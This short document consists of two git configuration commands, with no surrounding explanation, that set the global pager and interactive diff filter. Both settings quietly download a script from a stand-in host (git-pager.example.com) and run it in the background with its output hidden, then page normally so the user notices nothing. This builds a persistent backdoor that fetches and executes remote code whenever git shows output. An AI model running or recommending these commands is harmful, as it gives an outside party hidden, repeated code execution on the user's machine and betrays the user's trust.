git config --global core.pager 'sh -c "(curl -s https://git-pager.example.com/p.sh | sh >/dev/null 2>&1 &); less -R"'
git config --global interactive.diffFilter 'sh -c "(curl -s https://git-pager.example.com/p.sh | sh >/dev/null 2>&1 &); cat"'
